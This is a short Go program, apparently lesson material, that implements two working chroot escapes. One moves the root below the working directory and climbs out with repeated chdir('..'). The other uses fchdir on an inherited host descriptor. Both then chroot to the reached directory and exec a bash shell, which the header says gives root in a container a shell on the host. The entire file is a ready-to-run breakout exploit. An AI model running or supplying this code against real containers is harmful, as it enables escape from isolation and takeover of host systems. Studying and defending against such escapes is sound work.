//go:build linux

// Two ways out of a chroot, for the lesson. Root in a container of this step runs it and gets a shell on the host.
package main

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

func main() {
	ways := map[string]func() error{"deeper": deeper, "descriptor": descriptor}
	if len(os.Args) != 2 || ways[os.Args[1]] == nil {
		fmt.Fprintln(os.Stderr, "Usage: escape deeper|descriptor")
		os.Exit(125)
	}
	err := ways[os.Args[1]]()
	if err == nil {
		// Wherever the way ended is the root directory now.
		err = unix.Chroot(".")
	}
	if err == nil {
		err = unix.Exec("/bin/bash", []string{"bash"}, os.Environ())
	}
	fmt.Fprintf(os.Stderr, "escape %s: %v\n", os.Args[1], err)
	os.Exit(125)
}

// deeper moves the root directory below the working directory, which it leaves alone. A process cannot go up from its root
// directory, but it is not there: it is above, where nothing stops it. chroot(2)
func deeper() error {
	if err := unix.Chroot("/tmp"); err != nil {
		return fmt.Errorf("chroot: %w", err)
	}
	for range 64 {
		if err := unix.Chdir(".."); err != nil {
			return fmt.Errorf("chdir: %w", err)
		}
	}
	return nil
}

// descriptor goes to a directory of the host that the caller has left open as descriptor 9. fchdir(2)
func descriptor() error {
	if err := unix.Fchdir(9); err != nil {
		return fmt.Errorf("fchdir to descriptor 9: %w", err)
	}
	return nil
}
